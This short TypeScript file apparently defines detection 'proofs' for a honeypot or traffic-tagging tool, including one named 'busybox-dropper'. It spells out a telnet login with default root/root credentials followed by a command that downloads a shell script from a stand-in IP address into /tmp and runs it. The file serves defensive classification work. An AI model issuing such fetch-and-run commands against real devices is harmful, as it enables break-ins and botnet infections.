import { type Proof, proof, telnet } from '#tags/proof/sketch.ts'
import { login } from '#tags/proof/examples.ts'

export const proofs: readonly Proof[] = [
  proof('busybox-dropper', telnet('root', 'root', 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh'), [
    login,
    telnet('wget --help'),
  ]),
]
